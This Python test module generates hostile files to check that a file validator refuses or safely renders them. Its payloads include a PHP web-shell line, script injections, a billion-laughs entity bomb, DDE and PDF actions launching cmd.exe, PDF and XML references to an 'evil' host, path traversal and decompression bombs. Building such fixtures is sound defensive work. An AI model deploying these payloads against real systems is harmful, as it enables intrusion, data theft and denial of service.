"""Hostile files by the hundred, built from a seed: a name, a content, what must come of it.

`None` as a fault means: whatever it is called, it ends in some refusal or in a safe rendering.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image

from ideas.writing.files.rules import Fault
from tests.writing.files.building import (
    PACKAGE,
    TYPES,
    body,
    document,
    finished,
    opened_paper,
    packed,
    paper,
    picture,
    workbook,
)

ANY = None
DOCTYPE = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1 if n > 1 else str()};" * 10}">' for n in range(1, 9)
)
LAUGHS = DOCTYPE + "]><a>&a8;</a>"


@dataclass(frozen=True)
class Hostile:
    name: str
    content: bytes
    fault: Fault | None = ANY
    or_else: Fault | None = ANY


def sound() -> dict[str, bytes]:
    return {
        "pdf": paper("Halo"), "docx": document(), "xlsx": workbook(), "png": picture(),
        "jpg": picture("JPEG"), "webp": picture("WEBP"),
    }  # fmt: skip


def all_hostile() -> dict[str, Hostile]:
    made: dict[str, Hostile] = {}
    for family in (
        names,
        disguises,
        cut_off,
        two_faced,
        archives,
        documents,
        papers,
        pictures,
        bent,
    ):
        for number, one in enumerate(family()):
            made[f"{family.__name__}-{number}"] = one
    return made


def names() -> Iterator[Hostile]:
    """Sound content under a name that is not taken."""
    for name in (
        "a.exe", "a.svg", "a.html", "a.htm", "a.php", "a.js", "a.docm", "a.xlsm", "a.doc", "a.xls",
        "a.zip", "a.pdf.exe", "a.pdf.html", "a.pptx", "a.mp4", "a.gif", "a.bmp", "a.tiff", "a.heic",
        "a", "", ".pdf", "pdf", "a.pdf\u202egpj.exe", "a.pdf;.exe", "a.pdf%00.exe", "a.lnk",
        "a.jar", "b.pdf/..", "a.xml", "a.rtf", "a.eml", "a.hta",
    ):  # fmt: skip
        yield Hostile(name, sound()["pdf"], Fault.ENDING)


STRANGERS = {
    "html": b"<html><script>alert(1)</script></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "php": b"<?php system($_GET[0]); ?>", "exe": b"MZ\x90\x00" + bytes(200),
    "elf": b"\x7fELF" + bytes(200), "gif": b"GIF89a" + bytes(100), "text": b"halo " * 50,
    "rar": b"Rar!\x1a\x07\x00" + bytes(100), "gzip": b"\x1f\x8b\x08" + bytes(100),
    "rtf": b"{\\rtf1\\ansi}", "zero": bytes(500), "eicar": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}",
}  # fmt: skip


def disguises() -> Iterator[Hostile]:
    """One thing under the name of another."""
    for ending in sound():
        for content in STRANGERS.values():
            yield Hostile(f"a.{ending}", content, Fault.DISGUISED)
        for other, content in sound().items():
            if other != ending:
                yield Hostile(f"a.{ending}", content, Fault.DISGUISED)
        yield Hostile(f"a.{ending}", b"", Fault.EMPTY)
    for ending in ("docx", "xlsx"):
        yield Hostile(f"a.{ending}", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), Fault.LOCKED)


def cut_off() -> Iterator[Hostile]:
    for ending, content in sound().items():
        for share in (0.1, 0.35, 0.6, 0.9, 0.99):
            yield Hostile(f"a.{ending}", content[: int(len(content) * share)], Fault.DISGUISED,
                          Fault.BROKEN)  # fmt: skip


def two_faced() -> Iterator[Hostile]:
    """Two programs would see two different things."""
    archive = packed({"a.html": "<script>"})
    for ending in ("pdf", "png", "jpg", "webp"):
        yield Hostile(f"a.{ending}", sound()[ending] + archive, Fault.DISGUISED)
        yield Hostile(f"a.{ending}", archive + sound()[ending], Fault.DISGUISED)
        yield Hostile(f"a.{ending}", b"<html>" + sound()[ending], Fault.DISGUISED)
    head = b"%PDF-1.7\n<html><script>alert(1)</script>"
    yield Hostile("a.pdf", head + sound()["pdf"][8:], Fault.DISGUISED)
    yield Hostile("a.docx", b"MZ" + document(), Fault.DISGUISED)


def archives() -> Iterator[Hostile]:
    """Archives that swell, hide or escape."""
    zeros = "0" * (4 << 20)
    yield Hostile("a.docx", document(parts={"word/a.xml": zeros}), Fault.SWOLLEN)
    many = {f"word/{n}.xml": "" for n in range(1100)}
    yield Hostile("a.docx", document(parts=many), Fault.SWOLLEN)
    for path in ("../../a.xml", "/etc/passwd", "word\\..\\..\\a.xml", "C:a.xml", "a/../../b.xml"):
        yield Hostile("a.docx", document(parts={path: "x"}), Fault.BROKEN)
    for inner in ("a.zip", "a.docx", "a.exe", "a.js", "a.html", "a.svg", "a.jar", "a.lnk", "a.rtf"):
        yield Hostile("a.docx", document(parts={f"word/media/{inner}": "x"}), Fault.FOREIGN)
    yield Hostile("a.docx", _twice(), Fault.BROKEN)
    yield Hostile("a.docx", _overlapping(), Fault.BROKEN)
    yield Hostile("a.docx", _flagged(document()), Fault.LOCKED)
    yield Hostile("a.docx", _squeezed(), Fault.BROKEN)
    yield Hostile("a.docx", packed({"word/document.xml": body()}), Fault.BROKEN)
    yield Hostile("a.docx", packed({"[Content_Types].xml": TYPES}), Fault.BROKEN)
    yield Hostile("a.docx", packed({"a.txt": "halo"}), Fault.BROKEN)


def _twice() -> bytes:
    out = io.BytesIO(document())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/document.xml", "x")
    return out.getvalue()


def _overlapping() -> bytes:
    """All entries of the directory point to one and the same content."""
    content = bytearray(document(parts={"word/b.xml": "b" * 50}))
    place = content.rfind(b"word/b.xml") - 46
    content[place + 42 : place + 46] = struct.pack("<I", 0)
    return bytes(content)


def _flagged(content: bytes) -> bytes:
    """Every entry of the directory says that it is encrypted."""
    made, place = bytearray(content), 0
    while (place := made.find(b"PK\x01\x02", place)) >= 0:
        made[place + 8] |= 1
        place += 4
    return bytes(made)


def _squeezed() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in (("[Content_Types].xml", TYPES), ("word/document.xml", body())):
            archive.writestr(name, text, zipfile.ZIP_LZMA if "word" in name else None)
    return out.getvalue()


def _related(kind: str, target: str, mode: str = "External") -> dict[str, str]:
    return {
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="r9" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    }


def documents() -> Iterator[Hostile]:
    """Documents that would run, fetch, or never end."""
    for part in ("word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml",
                 "customUI/customUI.xml", "xl/macrosheets/sheet1.xml"):  # fmt: skip
        yield Hostile("a.docx", document(parts={part: "x"}), Fault.ACTIVE)
    macro = TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")
    yield Hostile("a.docx", document(parts={"[Content_Types].xml": macro}), Fault.ACTIVE)
    for part in ("word/embeddings/oleObject1.bin", "word/afchunk.mht", "xl/externalLinks/a.xml",
                 "word/embeddings/a.xlsx", "word/oleObject1.bin"):  # fmt: skip
        yield Hostile("a.docx", document(parts={part: "x"}), Fault.FOREIGN)
    for kind in ("attachedTemplate", "image", "frame", "oleObject", "subDocument", "aFChunk"):
        yield Hostile("a.docx", document(parts=_related(kind, "http://x/a")), Fault.FOREIGN)
    for target in ("file:///C:/a", "\\\\evil\\share", "//evil/share"):
        yield Hostile("a.docx", document(parts=_related("hyperlink", target)), Fault.FOREIGN)
    for part in ("word/document.xml", "[Content_Types].xml", "_rels/.rels"):
        yield Hostile("a.docx", document(parts={part: LAUGHS}), Fault.BROKEN)
        outer = '<!DOCTYPE a SYSTEM "http://evil/a.dtd"><a/>'
        yield Hostile("a.docx", document(parts={part: outer}), Fault.BROKEN)
        yield Hostile("a.docx", document(parts={part: "<a><b></a>"}), Fault.BROKEN)
    field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    yield Hostile("a.docx", document(inside=body(field)), Fault.ACTIVE)
    yield Hostile("a.docx", document(inside=body("<w:sdt>" * 3000 + "</w:sdt>" * 3000)), ANY)
    yield Hostile("a.docx", document(inside=body("<w:p>" * 60_000 + "</w:p>" * 60_000)), ANY)
    yield Hostile("a.docx", document("panjang " * 60_000), Fault.TOO_LONG)
    yield Hostile(
        "a.docx",
        document(
            '#import "/etc/passwd" #read("../a") $x$ @a <b>',
        ),
        ANY,
    )


def papers() -> Iterator[Hostile]:
    """PDF that are locked, endless, or would do something."""
    code = pikepdf.Encryption(owner="a", user="b")
    yield Hostile("a.pdf", paper(lock=code), Fault.LOCKED)
    opened = pikepdf.Encryption(owner="a", user="")
    yield Hostile("a.pdf", paper(lock=opened), Fault.LOCKED)
    yield Hostile("a.pdf", paper(pages=101), Fault.TOO_LONG)
    for action in (
        {"S": "/JavaScript", "JS": "app.alert(1)"}, {"S": "/Launch", "F": "cmd.exe"},
        {"S": "/URI", "URI": "http://evil/"}, {"S": "/GoToR", "F": "http://evil/a.pdf"},
        {"S": "/SubmitForm", "F": "http://evil/"}, {"S": "/ImportData", "F": "a.fdf"},
    ):  # fmt: skip
        yield Hostile("a.pdf", _acting(action), ANY)
    for box in ((0, 0, 0, 0), (0, 0, 1e7, 1e7), (0, 0, -5, -5), (0, 0, 1, 14400), (9e9, 0, 1, 1)):
        yield Hostile("a.pdf", _boxed(box), ANY)
    yield Hostile("a.pdf", _streaming(zlib.compress(bytes(150 << 20), 9)), ANY)
    yield Hostile("a.pdf", _streaming(zlib.compress(b"q " * 3_000_000)), ANY)
    yield Hostile("a.pdf", _circling(), ANY)
    yield Hostile("a.pdf", b"%PDF-1.7\ntrailer<</Root 1 0 R>>\n%%EOF", ANY)
    yield Hostile("a.pdf", b"%PDF-1.4\n" + b"1 0 obj<</A " * 5000 + b"\n%%EOF", ANY)
    yield Hostile("a.pdf", b"%PDF-1.4\n" + b"[" * 200_000 + b"\n%%EOF", ANY)


def _acting(action: dict[str, str]) -> bytes:
    made = opened_paper("Halo")
    told = {
        f"/{key}": pikepdf.Name(said) if said.startswith("/") else pikepdf.String(said)
        for key, said in action.items()
    }
    made.Root.OpenAction = pikepdf.Dictionary(told)
    return finished(made)


def _boxed(box: tuple[float, ...]) -> bytes:
    made = opened_paper("Halo")
    made.pages[0].MediaBox = pikepdf.Array([int(one) for one in box])
    return finished(made)


def _streaming(packed_content: bytes) -> bytes:
    made = opened_paper("Halo")
    stream = pikepdf.Stream(made, b"")
    stream.write(packed_content, filter=pikepdf.Name.FlateDecode)
    made.pages[0].Contents = stream
    return finished(made)


def _circling() -> bytes:
    """A form that draws itself."""
    made = opened_paper()
    form = made.make_indirect(
        pikepdf.Stream(made, b"/X Do", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form,
                       BBox=[0, 0, 9, 9])
    )  # fmt: skip
    form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form))
    made.pages[0].Resources.XObject = pikepdf.Dictionary(X=form)
    made.pages[0].Contents = pikepdf.Stream(made, b"/X Do")
    return finished(made)


def pictures() -> Iterator[Hostile]:
    """Pictures with more points than memory, more than one picture, or none."""
    for width, height in ((60_000, 60_000), (40_001, 1000), (1, 41_000_000), (2**31 - 1, 1)):
        yield Hostile("a.png", _png(width, height), Fault.TOO_WIDE)
    yield Hostile("a.png", _png(0, 0), Fault.BROKEN)
    yield Hostile("a.png", _png(200, 200), Fault.BROKEN)
    yield Hostile("a.jpg", _wide_jpeg(), Fault.TOO_WIDE)
    yield Hostile("a.webp", _moving("WEBP"), Fault.DISGUISED)
    yield Hostile("a.png", _moving("PNG"), Fault.DISGUISED)
    yield Hostile("a.jpg", picture("JPEG", icc_profile=b"\xff" * 5000), ANY)
    yield Hostile("a.png", picture(pnginfo=None, icc_profile=b"x"), ANY)
    yield Hostile("a.jpg", picture("JPEG", mode="CMYK"), ANY)
    yield Hostile("a.jpg", picture("JPEG", exif=b"Exif\x00\x00" + b"\xff" * 300), ANY)


def _chunk(name: bytes, content: bytes) -> bytes:
    check = struct.pack(">I", zlib.crc32(name + content))
    return struct.pack(">I", len(content)) + name + content + check


def _png(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = _chunk(b"IDAT", zlib.compress(bytes(100)))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + data + _chunk(b"IEND", b"")


def _wide_jpeg() -> bytes:
    content = bytearray(picture("JPEG"))
    place = content.find(b"\xff\xc0") + 5
    content[place : place + 4] = struct.pack(">HH", 65_000, 65_000)
    return bytes(content)


def _moving(kind: str) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])
    return out.getvalue()


def bent(count: int = 12) -> Iterator[Hostile]:
    """Sound files with some bytes changed: refused, or rendered; never a crash."""
    chance = random.Random(20)
    for ending, content in sound().items():
        for _ in range(count):
            changed = bytearray(content)
            for _ in range(chance.choice((1, 3, 20))):
                changed[chance.randrange(12, len(changed) - 12)] = chance.randrange(256)
            yield Hostile(f"a.{ending}", bytes(changed), ANY)
